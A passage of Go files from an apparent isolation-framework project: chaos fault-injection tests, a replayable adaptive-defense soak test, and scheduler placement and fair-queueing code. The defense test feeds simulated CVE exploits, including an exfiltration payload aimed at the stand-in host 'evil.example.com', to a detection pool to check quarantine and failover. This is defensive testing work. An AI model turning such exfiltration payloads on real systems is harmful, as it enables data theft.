				l1, l2 := incarnationLogs(ex, id), incarnationLogs(ex2, id)
				if !reflect.DeepEqual(l1, l2) {
					t.Fatalf("shard %d injection logs diverged across replays:\n%v\nvs\n%v", id, l1, l2)
				}
			}
			if ev1, ev2 := ex.FailoverEventsFor(crashShard), ex2.FailoverEventsFor(crashShard); !reflect.DeepEqual(ev1, ev2) {
				t.Fatalf("failover event logs diverged:\n%v\nvs\n%v", ev1, ev2)
			}
		})
	}
}

// TestForShardDerivation pins the per-shard plan split: shard 0 is the
// root plan unchanged (the n=1 byte-compatibility guarantee), other shards
// get stable, pairwise-distinct derived seeds.
func TestForShardDerivation(t *testing.T) {
	root := chaos.Scaled(42, 0.05)
	if got := root.ForShard(0); !reflect.DeepEqual(got, root) {
		t.Fatalf("ForShard(0) changed the plan: %+v", got)
	}
	seen := map[int64]int{root.Seed: 0}
	for id := 1; id <= 8; id++ {
		p := root.ForShard(id)
		if p.Seed == root.Seed {
			t.Fatalf("shard %d kept the root seed", id)
		}
		if prev, dup := seen[p.Seed]; dup {
			t.Fatalf("shards %d and %d derived the same seed", prev, id)
		}
		seen[p.Seed] = id
		if p.Kernel != root.Kernel || p.IPC != root.IPC || p.Mem != root.Mem {
			t.Fatalf("shard %d derivation changed probabilities", id)
		}
		if again := root.ForShard(id); again.Seed != p.Seed {
			t.Fatalf("shard %d derivation unstable", id)
		}
	}
	if chaos.DerivedSeed(1, 2) == chaos.DerivedSeed(2, 1) {
		t.Fatal("seed/shard mixing is symmetric; streams would collide")
	}
}

// TestEngineBindPanicsOnSecondClock pins the sharing guard: one engine
// must not serve two kernel clocks. Rebinding the same clock is fine.
func TestEngineBindPanicsOnSecondClock(t *testing.T) {
	eng := chaos.New(chaos.Scaled(1, 0.05))
	c1, c2 := vclock.New(), vclock.New()
	eng.Bind(c1, nil)
	eng.Bind(c1, nil) // idempotent
	defer func() {
		if recover() == nil {
			t.Fatal("binding a second clock must panic")
		}
	}()
	eng.Bind(c2, nil)
}
