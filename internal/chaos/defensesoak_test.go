package chaos_test

import (
	"fmt"
	"reflect"
	"testing"
	"time"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/defense"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/isolation"
	"freepart.dev/freepart/internal/vclock"
)

// defenseOutcome is the replay-comparable record of one defense soak run:
// every request's error class per wave, every attack delivery's class, the
// controller's full decision log and counters, and whether the policy
// annealed home.
type defenseOutcome struct {
	WaveClasses   [][]string
	AttackClasses []string
	EventLog      string
	Stats         defense.Stats
	AtFloor       bool
}

// defenseSoakRun drives one adaptive-defense campaign under background
// chaos: a 4-shard detection pool built over DynamicShards (so re-binds
// pick up the controller's live policy) with per-shard fault plans derived
// from seed, the last shard crash-looping via scheduled kills, an attacker
// tenant landing two exploit classes through the loading path, and the
// controller escalating, quarantining, annealing, and releasing at the
// wave barriers. Chaos only arms on process-tier partitions, so the floor
// waves run fault-free and the escalated waves absorb injected faults —
// both phases must replay byte-equal.
func defenseSoakRun(t *testing.T, seed int64) (defenseOutcome, *core.Executor, *defense.Controller) {
	t.Helper()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	root := chaos.Scaled(seed, 0.03)
	// The kernel crash channels fire on any targeted syscall, so at the
	// domain-tier floor they kill hosts mid-wave and the watchdog dutifully
	// reports chaos kills as DoS sightings — making the escalate/anneal arc
	// seed-dependent. Confine lethal injection to the memory channel, which
	// only arms on process-tier partitions: floor waves run fault-free and
	// the escalated waves still absorb faults.
	root.Kernel.CrashProb = 0
	root.Kernel.CrashEveryN = 0
	planOf := func(id, gen int) chaos.Plan { return root.ForShard(id) }

	floor := isolation.ERIM()
	var ctl *defense.Controller
	cfgOf := func() core.Config {
		p := floor
		if ctl != nil {
			p = ctl.Policy()
		}
		cfg := core.ConfigForIsolation(p)
		cfg.RetryBudget = 6
		cfg.CheckpointAll = true
		cfg.BackoffBase = vclock.Duration(20 * time.Microsecond)
		cfg.BackoffCap = vclock.Duration(2 * time.Millisecond)
		cfg.BreakerThreshold = 8
		cfg.BreakerWindow = vclock.Duration(200 * time.Millisecond)
		return cfg
	}
	ex, err := core.NewExecutor(4, core.DynamicShards(reg, cat, cfgOf, planOf))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	ctl = defense.New(ex, defense.Params{
		Floor:            floor,
		CleanWindow:      vclock.Duration(10 * time.Microsecond),
		QuarantineWindow: vclock.Duration(10 * time.Microsecond),
	})
	ex.SetAdmissionGate(ctl.Gate())
	srv, err := apps.ProvisionDetection(ex)
	if err != nil {
		t.Fatal(err)
	}
	alog := &attack.Log{}
	arm := func(sh *core.Shard) { ctl.Arm(sh, alog.Handler()) }
	for i := 0; i < ex.Shards(); i++ {
		arm(ex.Shard(i))
	}
	ex.SetOnReplace(func(sh *core.Shard) error {
		if err := srv.Reload(sh); err != nil {
			return err
		}
		arm(sh)
		return nil
	})

	var out defenseOutcome
	reqs := apps.GenDetectionRequests(21, 16)
	wave := func(crashLoop bool) {
		if crashLoop {
			last := ex.Shards() - 1
			ex.ScheduleKill(last, ex.Shard(last).Clock().Now()+1)
		}
		rs := srv.Serve(reqs)
		classes := make([]string, len(rs))
		for i, r := range rs {
			classes[i] = core.ErrClass(r.Err)
		}
		out.WaveClasses = append(out.WaveClasses, classes)
	}
	const attacker = 7
	deliver := func(cveID string, body []byte) {
		if err := ctl.Screen(cveID); err != nil {
			out.AttackClasses = append(out.AttackClasses, core.ErrClass(err))
			return
		}
		sess := ex.SessionFor(attacker, 1)
		defer sess.Finish()
		shardID, hostDied := -1, false
		err := sess.Do(func(sh *core.Shard) error {
			shardID = sh.ID
			sh.K.FS.WriteFile("/srv/evil.img", body)
			_, _, callErr := sh.Ex.Call("cv.imread", framework.Str("/srv/evil.img"))
			if sh.Rt != nil {
				hostDied = !sh.Rt.Host.Alive()
				if !hostDied {
					_ = sh.Rt.RestartDead()
				}
			}
			return callErr
		})
		out.AttackClasses = append(out.AttackClasses, core.ErrClass(err))
		if hostDied && shardID >= 0 {
			ex.KillShard(shardID, cveID+" killed the host")
		}
	}
	barrier := func() { ctl.Tick(ex.CriticalPath()) }

	wave(true)
	barrier()
	// Two exploit classes through the loading path: the DoS kills the
	// domain-tier host (shard lost, failover), the exfiltration leaks
	// without crashing. Both become first sightings at the barrier.
	deliver("CVE-2017-14136", attack.DoS("CVE-2017-14136"))
	deliver("CVE-2020-10378", attack.Exfiltrate("CVE-2020-10378", 0x4000, 8, "evil.example.com"))
	barrier()
	// Repeat exploit dies at the front door; the quarantined offender's
	// benign retry is refused at admission.
	deliver("CVE-2017-14136", attack.DoS("CVE-2017-14136"))
	sess := ex.SessionFor(attacker, 1)
	err = sess.Do(func(sh *core.Shard) error {
		sh.K.FS.WriteFile("/srv/benign.img", reqs[0].Body)
		_, _, err := sh.Ex.Call("cv.imread", framework.Str("/srv/benign.img"))
		return err
	})
	sess.Finish()
	out.AttackClasses = append(out.AttackClasses, core.ErrClass(err))
	wave(true)
	barrier()
	wave(false)
	barrier()

	out.EventLog = ctl.EventLog()
	out.Stats = ctl.Stats()
	out.AtFloor = ctl.Policy().Equal(ctl.Floor())
	return out, ex, ctl
}

// TestDefenseSoak replays the adaptive-defense campaign under background
// chaos across several seeds: the controller's decision log, every
// request's outcome class, the per-shard injection logs across every
// incarnation, and the failover event stream must all be byte-equal
// between a run and its replay — the whole sensed-escalate-anneal loop is
// a pure function of the seed. Run under -race in CI (make check).
func TestDefenseSoak(t *testing.T) {
	seeds := []int64{5, 23, 71}
	if testing.Short() {
		seeds = seeds[:1]
	}
	for _, seed := range seeds {
		seed := seed
		t.Run(fmt.Sprintf("seed%02d", seed), func(t *testing.T) {
			out, ex, _ := defenseSoakRun(t, seed)

			// The campaign arc actually happened.
			st := out.Stats
			if st.Sightings == 0 || st.Escalations == 0 || st.Anneals == 0 ||
				st.Quarantines != 1 || st.Releases != 1 || st.Rebinds == 0 {
				t.Fatalf("campaign arc incomplete: %+v", st)
			}
			if !out.AtFloor {
				t.Fatal("policy did not anneal back to the floor")
			}
			want := []string{"attack-blocked", "quarantined"}
			if got := out.AttackClasses[2:4]; !reflect.DeepEqual(got, want) {
				t.Fatalf("post-barrier attack classes = %v, want %v", got, want)
			}
			for w, classes := range out.WaveClasses {
				for i, cl := range classes {
					if cl != "ok" {
						t.Errorf("wave %d request %d failed with class %s", w, i, cl)
					}
				}
			}
			m := ex.Metrics().Snapshot()
			if m.ShardDrains == 0 {
				t.Fatal("crash-looping shard never drained; the soak exercised nothing")
			}

			// Replay: everything byte-equal.
			out2, ex2, _ := defenseSoakRun(t, seed)
			if out.EventLog != out2.EventLog {
				t.Fatalf("defense decision logs diverged across replays:\n%s\nvs\n%s", out.EventLog, out2.EventLog)
			}
			if !reflect.DeepEqual(out, out2) {
				t.Fatalf("replay outcomes diverged:\n%+v\nvs\n%+v", out, out2)
			}
			for id := 0; id < 4; id++ {
				l1, l2 := incarnationLogs(ex, id), incarnationLogs(ex2, id)
				if !reflect.DeepEqual(l1, l2) {
					t.Fatalf("shard %d injection logs diverged across replays:\n%v\nvs\n%v", id, l1, l2)
				}
				if ev1, ev2 := ex.FailoverEventsFor(id), ex2.FailoverEventsFor(id); !reflect.DeepEqual(ev1, ev2) {
					t.Fatalf("shard %d failover events diverged:\n%v\nvs\n%v", id, ev1, ev2)
				}
			}
		})
	}
}
