package chaos_test

import (
	"errors"
	"reflect"
	"testing"

	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
)

// drive pushes a fixed consultation pattern through an engine and returns
// the resulting log.
func drive(e *chaos.Engine, k *kernel.Kernel, agent *kernel.Process) []chaos.Event {
	for i := 0; i < 40; i++ {
		e.OnSyscall(agent, kernel.SysRead)
		e.RequestFault(uint64(i), []byte("req"))
		e.ResponseFault(uint64(i), []byte("resp"))
		_ = e.MemFault(agent.Name(), mem.Addr(0x1000+i*64), mem.AccessWrite)
	}
	return e.Events()
}

func TestEngineDeterministicForEqualSeeds(t *testing.T) {
	k := kernel.New()
	agent := k.Spawn("agent:processing")
	plan := chaos.Scaled(42, 0.5)
	a := drive(chaos.New(plan), k, agent)
	b := drive(chaos.New(plan), k, agent)
	if len(a) == 0 {
		t.Fatal("intensity 0.5 over 160 sites should fire at least one fault")
	}
	if !reflect.DeepEqual(a, b) {
		t.Fatalf("same seed diverged:\n%v\nvs\n%v", a, b)
	}
}

func TestEngineSeedsDiverge(t *testing.T) {
	k := kernel.New()
	agent := k.Spawn("agent:processing")
	a := drive(chaos.New(chaos.Scaled(1, 0.5)), k, agent)
	b := drive(chaos.New(chaos.Scaled(2, 0.5)), k, agent)
	if reflect.DeepEqual(a, b) {
		t.Fatal("different seeds produced identical logs")
	}
}

func TestEngineNeverTargetsHost(t *testing.T) {
	// Host consultations are skipped without consuming randomness, so a
	// run interleaved with arbitrary host activity makes the same agent
	// decisions as one without it.
	k := kernel.New()
	host := k.Spawn("host")
	agent := k.Spawn("agent:loading")
	plan := chaos.Scaled(7, 1)

	interleaved := chaos.New(plan)
	for i := 0; i < 25; i++ {
		f := interleaved.OnSyscall(host, kernel.SysRead)
		if f != (kernel.SyscallFault{}) {
			t.Fatalf("host got injected: %+v", f)
		}
		if err := interleaved.MemFault("host", 0x4000, mem.AccessWrite); err != nil {
			t.Fatalf("host mem access faulted: %v", err)
		}
		interleaved.OnSyscall(agent, kernel.SysOpenat)
	}
	plain := chaos.New(plan)
	for i := 0; i < 25; i++ {
		plain.OnSyscall(agent, kernel.SysOpenat)
	}
	if !reflect.DeepEqual(interleaved.Events(), plain.Events()) {
		t.Fatal("host activity perturbed the agent decision stream")
	}
}

func TestKernelCrashInjection(t *testing.T) {
	k := kernel.New()
	agent := k.Spawn("agent:loading")
	eng := chaos.New(chaos.Plan{Seed: 1, Kernel: chaos.KernelPlan{CrashEveryN: 3}})
	k.SetInjector(eng)
	if err := k.Syscall(agent, kernel.SysOpenat, ""); err != nil {
		t.Fatalf("syscall 1: %v", err)
	}
	if err := k.Syscall(agent, kernel.SysFstat, ""); err != nil {
		t.Fatalf("syscall 2: %v", err)
	}
	err := k.Syscall(agent, kernel.SysRead, "")
	if !errors.Is(err, kernel.ErrProcessDead) {
		t.Fatalf("3rd syscall err = %v, want ErrProcessDead", err)
	}
	if agent.Alive() {
		t.Fatal("agent should be crashed")
	}
	if eng.Injected() != 1 {
		t.Fatalf("injected = %d, want 1", eng.Injected())
	}
}

func TestKernelTransientRestartsChargeTime(t *testing.T) {
	k := kernel.New()
	agent := k.Spawn("agent:loading")
	clean := k.Clock.Now()
	if err := k.Syscall(agent, kernel.SysRead, ""); err != nil {
		t.Fatal(err)
	}
	cleanCost := k.Clock.Now() - clean

	eng := chaos.New(chaos.Plan{
		Seed:   1,
		Kernel: chaos.KernelPlan{TransientProb: 1, MaxTransient: 3},
	})
	k.SetInjector(eng)
	before := k.Clock.Now()
	if err := k.Syscall(agent, kernel.SysRead, ""); err != nil {
		t.Fatalf("transient faults must be restarted, got %v", err)
	}
	if got := k.Clock.Now() - before; got <= cleanCost {
		t.Fatalf("restarted syscall cost %v, want more than clean cost %v", got, cleanCost)
	}
	if eng.Injected() != 3 {
		t.Fatalf("injected = %d, want 3 transients (capped)", eng.Injected())
	}
	if !agent.Alive() {
		t.Fatal("transients must not kill the process")
	}
}

func TestMemFaultOnlyOnTargetWrites(t *testing.T) {
	eng := chaos.New(chaos.Plan{Seed: 1, Mem: chaos.MemPlan{FaultProb: 1}})
	if err := eng.MemFault("agent:processing", 0x2000, mem.AccessRead); err != nil {
		t.Fatalf("reads must not fault: %v", err)
	}
	if err := eng.MemFault("host", 0x2000, mem.AccessWrite); err != nil {
		t.Fatalf("host must not fault: %v", err)
	}
	if err := eng.MemFault("agent:processing", 0x2000, mem.AccessWrite); err == nil {
		t.Fatal("agent write with FaultProb 1 must fault")
	}
}

func TestScaledClampsIntensity(t *testing.T) {
	if p := chaos.Scaled(1, -3); p.Kernel.CrashProb != 0 {
		t.Fatalf("negative intensity should zero probabilities, got %+v", p.Kernel)
	}
	hi := chaos.Scaled(1, 9)
	one := chaos.Scaled(1, 1)
	if hi.Kernel.CrashProb != one.Kernel.CrashProb {
		t.Fatal("intensity should clamp at 1")
	}
}

func TestSpaceAccessHookVetoesAccess(t *testing.T) {
	s := mem.NewSpace()
	r, err := s.Alloc(64)
	if err != nil {
		t.Fatal(err)
	}
	boom := errors.New("boom")
	s.SetAccessHook(func(addr mem.Addr, n int, kind mem.AccessKind) error {
		if kind == mem.AccessWrite {
			return boom
		}
		return nil
	})
	if err := s.Store(r.Base, []byte("x")); !errors.Is(err, boom) {
		t.Fatalf("store err = %v, want hook veto", err)
	}
	if _, err := s.Load(r.Base, 1); err != nil {
		t.Fatalf("read should pass the hook: %v", err)
	}
	s.SetAccessHook(nil)
	if err := s.Store(r.Base, []byte("x")); err != nil {
		t.Fatalf("store after clearing hook: %v", err)
	}
}
