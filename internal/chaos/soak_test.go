package chaos_test

import (
	"bytes"
	"fmt"
	"reflect"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
)

// omrRun executes the OMRChecker motivating example under the given config
// and returns its observable outputs: the results.csv bytes and the
// per-sheet scores.
func omrRun(t *testing.T, cfg core.Config, sheets int) (csv []byte, scores []int, rt *core.Runtime) {
	t.Helper()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	k := kernel.New()
	rt, err := core.New(k, reg, cat, cfg)
	if err != nil {
		t.Fatalf("core.New: %v", err)
	}
	t.Cleanup(rt.Close)
	a, _ := apps.ByID(8) // OMRChecker
	e := apps.NewEnv(k, rt, a)
	func() {
		// OMR's internal MustCall panics on failure; surface it as a
		// test failure with the wrapped error instead of a crash.
		defer func() {
			if r := recover(); r != nil {
				t.Fatalf("pipeline aborted: %v", r)
			}
		}()
		_, scores, err = apps.OMRGradeAll(e, sheets)
	}()
	if err != nil {
		t.Fatalf("OMRGradeAll: %v", err)
	}
	csv, err = k.FS.ReadFile(e.Dir + "/results.csv")
	if err != nil {
		t.Fatalf("results.csv: %v", err)
	}
	return csv, scores, rt
}

// TestChaosSoak sweeps 100 seeds of moderate-intensity chaos over the
// OMRChecker pipeline. For every seed the host must survive, the pipeline
// must complete, and the outputs must be byte-identical to the fault-free
// baseline — the paper's §6 claim exercised systematically.
func TestChaosSoak(t *testing.T) {
	const sheets = 2
	baseCSV, baseScores, _ := omrRun(t, core.Default(), sheets)

	seeds := 100
	if testing.Short() {
		seeds = 10
	}
	var totalInjected uint64
	for seed := 1; seed <= seeds; seed++ {
		seed := seed
		t.Run(fmt.Sprintf("seed%03d", seed), func(t *testing.T) {
			eng := chaos.New(chaos.Scaled(int64(seed), 0.05))
			csv, scores, rt := omrRun(t, core.ChaosConfig(eng), sheets)
			if !rt.Host.Alive() {
				t.Fatalf("host crashed: %s", rt.Host.ExitReason())
			}
			if !bytes.Equal(csv, baseCSV) {
				t.Fatalf("output diverged under chaos\nfaulty: %q\nclean:  %q\nlog:\n%s",
					csv, baseCSV, eng.Log())
			}
			if !reflect.DeepEqual(scores, baseScores) {
				t.Fatalf("scores diverged: %v vs %v", scores, baseScores)
			}
			totalInjected += eng.Injected()
		})
	}
	if totalInjected == 0 {
		t.Fatal("soak injected zero faults; intensity too low to prove anything")
	}
	t.Logf("soak: %d seeds, %d faults injected, zero divergence", seeds, totalInjected)
}

// TestChaosRunReplayable reruns identical seeds and demands byte-identical
// outputs and injection logs — every chaos run is replayable from its seed.
func TestChaosRunReplayable(t *testing.T) {
	for _, seed := range []int64{3, 17, 55} {
		eng1 := chaos.New(chaos.Scaled(seed, 0.06))
		csv1, scores1, _ := omrRun(t, core.ChaosConfig(eng1), 2)
		eng2 := chaos.New(chaos.Scaled(seed, 0.06))
		csv2, scores2, _ := omrRun(t, core.ChaosConfig(eng2), 2)
		if !bytes.Equal(csv1, csv2) {
			t.Fatalf("seed %d: outputs diverged between identical runs", seed)
		}
		if !reflect.DeepEqual(scores1, scores2) {
			t.Fatalf("seed %d: scores diverged: %v vs %v", seed, scores1, scores2)
		}
		if !reflect.DeepEqual(eng1.Events(), eng2.Events()) {
			t.Fatalf("seed %d: injection logs diverged:\n%s\nvs\n%s", seed, eng1.Log(), eng2.Log())
		}
	}
}
