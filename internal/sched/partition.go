package sched

import (
	"fmt"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/partition"
	"freepart.dev/freepart/internal/vclock"
)

// KeyedPlacer is the extension a placer implements to see session keys: the
// controller installs PlaceKeyed as the executor's keyed placement hook, so
// sessions opened with SessionKeyed are scored with their identity while
// keyless opens keep flowing through Place. Return an out-of-range slot to
// decline (the open falls back to the plain hook, then round-robin).
type KeyedPlacer interface {
	Placer
	PlaceKeyed(session int, key uint64, pool []core.PlacementInfo) int
}

// PartitionAware composes partition affinity with conventional load
// scoring. For a keyed open it prefers, in order:
//
//  1. the warm shard — the slot (at the same incarnation) the key's
//     session last ran on, per the placement memory, when that slot is not
//     overloaded relative to the pool's least-loaded candidate;
//  2. the key's partition's preferred slot from the metadata, under the
//     same load guard — so a fresh key still lands where its partition
//     neighbours (and their shared working set) run;
//  3. the Base placer's pick (Locality when unset).
//
// The load guard is the same spill idea Locality uses: affinity wins until
// the affine shard carries SpillThreshold more sessions than the best
// candidate, at which point balance beats cache warmth. With a nil Meta and
// nil Memory every keyed decision declines straight to Base — and a wholly
// zero-value PartitionAware (nil Base too) declines everything, leaving the
// executor's round-robin bit-identical to a pool with no placer at all.
type PartitionAware struct {
	// Meta is the workload's partitioning descriptor (nil: no partition
	// preference).
	Meta *partition.Meta
	// Memory is the per-session placement history (nil: no warm scoring).
	Memory *partition.PlacementMemory
	// Base is the fallback placer (nil: Locality over Topo).
	Base Placer
	// Topo maps slots to sockets for the default Base and for drill cost
	// pricing.
	Topo Topology
	// SpillThreshold is how many extra sessions an affine shard may carry
	// over the pool's least-loaded candidate before affinity loses
	// (default 4 when zero — cache warmth is worth more than one hop).
	SpillThreshold int
}

// base returns the effective fallback placer.
func (pa PartitionAware) base() Placer {
	if pa.Base != nil {
		return pa.Base
	}
	return Locality{Topo: pa.Topo}
}

// spill returns the effective affinity load guard.
func (pa PartitionAware) spill() int {
	if pa.SpillThreshold <= 0 {
		return 4
	}
	return pa.SpillThreshold
}

// Socket exposes the topology mapping so the controller prices cross-socket
// moves the same way it does for Locality.
func (pa PartitionAware) Socket(id int) int { return pa.Topo.Socket(id) }

// Place implements Placer: keyless opens see no partition signal and go
// straight to the fallback.
func (pa PartitionAware) Place(session int, pool []core.PlacementInfo) int {
	if pa.Meta == nil && pa.Memory == nil && pa.Base == nil {
		return -1
	}
	return pa.base().Place(session, pool)
}

// MigrateTarget implements Placer.
func (pa PartitionAware) MigrateTarget(session, from int, pool []core.PlacementInfo) int {
	if pa.Meta == nil && pa.Memory == nil && pa.Base == nil {
		return -1
	}
	return pa.base().MigrateTarget(session, from, pool)
}

// PlaceKeyed implements KeyedPlacer.
func (pa PartitionAware) PlaceKeyed(session int, key uint64, pool []core.PlacementInfo) int {
	if pa.Meta == nil && pa.Memory == nil {
		if pa.Base == nil {
			return -1
		}
		return pa.base().Place(session, pool)
	}
	least := -1
	for _, p := range pool {
		if least < 0 || p.Sessions < least {
			least = p.Sessions
		}
	}
	affine := func(slot int, needGen int) int {
		for _, p := range pool {
			if p.ID != slot {
				continue
			}
			if needGen >= 0 && p.Gen != needGen {
				return -1 // slot was replaced; its cache died with the process
			}
			if p.Sessions > least+pa.spill() {
				return -1 // affinity loses to balance
			}
			return p.ID
		}
		return -1 // slot not in (ready) pool
	}
	if shard, gen, ok := pa.Memory.WarmShard(key); ok {
		if id := affine(shard, gen); id >= 0 {
			return id
		}
	}
	if pref := pa.Meta.Preferred(key); pref >= 0 {
		if id := affine(pref, -1); id >= 0 {
			return id
		}
	}
	return pa.base().Place(session, pool)
}

// RebalancePartition is the hot-range drill: when one socket melts under a
// hot range, split the range's partition at its key midpoint, re-prefer the
// upper half onto shard slot dest, migrate every live keyed session owned
// by the moved range there through the existing checkpoint log (cross-
// socket moves pay CrossSocketCost on the destination clock, sized by
// bytesPerSession), and rehome the moved keys in the placement memory so
// their next visit scores warm at dest. Returns the new partition's id and
// how many sessions moved. Purely a control-plane action: served results
// must be byte-equal with or without it — only where (and at what virtual
// cost) the work runs changes.
func RebalancePartition(ex *core.Executor, meta *partition.Meta, mem *partition.PlacementMemory,
	topo Topology, cost vclock.CostModel, hot, dest, bytesPerSession int) (newPart, moved int, err error) {
	return rebalance(ex, meta, mem, topo, cost, hot, 0, dest, bytesPerSession)
}

// RebalancePartitionAt is RebalancePartition with an explicit split key.
// Zipf-hot ranges concentrate their load at the low end of the interval, so
// a key-midpoint split sheds almost nothing; the operator (or the report's
// drill) computes the observed load midpoint from the traffic it has seen
// and splits there instead, the way range-sharded stores split a region at
// its data median.
func RebalancePartitionAt(ex *core.Executor, meta *partition.Meta, mem *partition.PlacementMemory,
	topo Topology, cost vclock.CostModel, hot int, at uint64, dest, bytesPerSession int) (newPart, moved int, err error) {
	return rebalance(ex, meta, mem, topo, cost, hot, at, dest, bytesPerSession)
}

// rebalance implements both drill entry points; at == 0 means key midpoint.
func rebalance(ex *core.Executor, meta *partition.Meta, mem *partition.PlacementMemory,
	topo Topology, cost vclock.CostModel, hot int, at uint64, dest, bytesPerSession int) (newPart, moved int, err error) {
	if meta == nil {
		return -1, 0, fmt.Errorf("sched: rebalance needs partition metadata")
	}
	if at == 0 {
		newPart = meta.Split(hot, dest)
	} else {
		newPart = meta.SplitAt(hot, at, dest)
	}
	if newPart < 0 {
		return -1, 0, fmt.Errorf("sched: partition %d cannot split", hot)
	}
	ex.Metrics().AddPartitionSplit()
	p := meta.Parts[newPart]
	destShard := ex.Shard(dest)
	if destShard == nil {
		return newPart, 0, fmt.Errorf("sched: no shard slot %d", dest)
	}
	for _, sid := range ex.KeyedSessionsIn(p.Lo, p.Hi) {
		key, _ := ex.SessionKey(sid)
		from := -1
		if s := ex.SessionShard(sid); s != nil {
			from = s.ID
		}
		if from == dest {
			continue
		}
		var extra vclock.Duration
		if topo.Socket(from) != topo.Socket(dest) {
			extra = cost.CrossSocketCost(bytesPerSession)
		}
		if merr := ex.MigrateSession(sid, dest, extra); merr != nil {
			err = merr
			continue
		}
		moved++
		if from >= 0 {
			mem.Rehome(from, dest, destShard.Gen, map[uint64]bool{key: true})
		}
	}
	// The moved range's remaining traces (keys with history but no live
	// session to migrate) still point at the old owner; revoke them so those
	// keys' next visits follow the new preference instead of the stale trace.
	// Keys already homed at dest — the sessions just migrated — stay warm.
	mem.EvictRange(p.Lo, p.Hi, dest)
	return newPart, moved, err
}
