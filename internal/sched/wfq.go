package sched

import (
	"errors"
	"sort"
	"sync"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/vclock"
)

// DefaultQuantum is the WFQ service charge for a weight-1 tenant when the
// policy does not set one. Only the ratio quantum/weight matters for the
// ordering, so any positive constant works; 100µs keeps the virtual finish
// axis in the same units as the arrival stamps it is compared against.
const DefaultQuantum vclock.Duration = 100000

// defaultLeadCap bounds how many quanta one tenant's virtual finish clock
// may run ahead of the slowest active tenant's. Without the cap a tenant
// served heavily during underload banks an unbounded handicap, and the
// first moments of an overload would overcorrect in the other tenants'
// favour for just as long.
const defaultLeadCap = 8

// WFQ is the weighted-fair-queueing admission order: each tenant owns a
// per-shard-slot virtual finish clock, advanced quantum/weight for every
// request actually served, and each wave's queue is admitted in ascending
// virtual finish order. A tenant that consumed more than its weighted
// share of recent service carries a later finish clock, so its requests
// sort behind the underserved tenant's — under a bounded admission queue
// that is what converts the queue bound from "first come first served"
// into "fair share first": the chatty tenant's excess, not the light
// tenant's trickle, eats the rejections.
//
// Charging on service, not demand, is the load-bearing choice (start-time
// fair queueing): requests shed at the admission bound never consumed
// capacity, so they must not advance their tenant's clock — a
// demand-charged clock would punish the heavy tenant for work it never
// received and collapse into strict priority for the light one. The
// serving harness reports outcomes through Observe after each wave.
//
// State is keyed by (shard slot, tenant), and each slot's queue drains on
// one goroutine per wave, so orderings replay deterministically; the mutex
// only guards the map against concurrent access from different slots.
type WFQ struct {
	// Quantum is the virtual service charge for weight 1 (DefaultQuantum
	// when zero). A served request from a tenant with weight w advances
	// the tenant's finish clock by Quantum/w — integer division, so
	// orderings are exactly reproducible.
	Quantum vclock.Duration
	// LeadCap bounds a tenant's finish-clock lead over the slowest active
	// tenant, in quanta (defaultLeadCap when zero).
	LeadCap int

	mu     sync.Mutex
	finish map[slotTenant]vclock.Duration
}

// slotTenant keys one tenant's virtual finish clock on one shard slot.
type slotTenant struct{ slot, tenant int }

// quantum returns the effective service charge for weight 1.
func (q *WFQ) quantum() vclock.Duration {
	if q.Quantum > 0 {
		return q.Quantum
	}
	return DefaultQuantum
}

// tenantOf reads an entry's tenant identity (weight lifted to ≥1).
func tenantOf(en core.BatchEntry) (tenant, weight int) {
	tenant, weight = 0, 1
	if en.Session != nil {
		tenant = en.Session.Tenant
		if en.Session.Weight > 1 {
			weight = en.Session.Weight
		}
	}
	return tenant, weight
}

// Order returns the admission order for one slot's wave queue as a
// permutation of entry indices: ascending provisional virtual finish time,
// original position breaking ties (so single-tenant queues keep arrival
// order exactly). Provisional finishes start each tenant at
// max(finish clock, arrival) — an idle tenant re-enters at its arrival
// rather than banking idleness as priority — and stack quantum/weight per
// queued entry within the wave. Nothing persists here; only Observe, fed
// the wave's outcomes, advances the clocks.
func (q *WFQ) Order(slot int, entries []core.BatchEntry) []int {
	idx := make([]int, len(entries))
	for i := range idx {
		idx[i] = i
	}
	if len(entries) < 2 {
		return idx
	}
	q.mu.Lock()
	defer q.mu.Unlock()
	run := make(map[int]vclock.Duration) // per-tenant running key, this wave only
	fin := make([]vclock.Duration, len(entries))
	for i, en := range entries {
		tenant, weight := tenantOf(en)
		arrival := en.Arrival
		if arrival < 0 {
			arrival = 0
		}
		start, seen := run[tenant]
		if !seen {
			start = q.finish[slotTenant{slot: slot, tenant: tenant}]
		}
		if arrival > start {
			start = arrival
		}
		fin[i] = start + q.quantum()/vclock.Duration(weight)
		run[tenant] = fin[i]
	}
	sort.SliceStable(idx, func(a, b int) bool { return fin[idx[a]] < fin[idx[b]] })
	return idx
}

// Observe feeds one wave's admission outcomes back (entries and errs in
// served order): every entry that was actually admitted — anything but an
// overload shed — charges its tenant quantum/weight, and finish clocks are
// then clamped to the slowest active tenant's plus the lead cap. Shed
// entries consumed no capacity and charge nothing.
func (q *WFQ) Observe(slot int, entries []core.BatchEntry, errs []error) {
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.finish == nil {
		q.finish = make(map[slotTenant]vclock.Duration)
	}
	active := make(map[int]bool)
	for i, en := range entries {
		tenant, weight := tenantOf(en)
		active[tenant] = true
		if i < len(errs) && (errors.Is(errs[i], core.ErrOverloaded) || errors.Is(errs[i], core.ErrDeadlineExceeded)) {
			continue
		}
		key := slotTenant{slot: slot, tenant: tenant}
		arrival := en.Arrival
		if arrival < 0 {
			arrival = 0
		}
		start := q.finish[key]
		if arrival > start {
			start = arrival
		}
		q.finish[key] = start + q.quantum()/vclock.Duration(weight)
	}
	if len(active) < 2 {
		return
	}
	// Clamp leads against the slowest tenant seen this wave.
	first := true
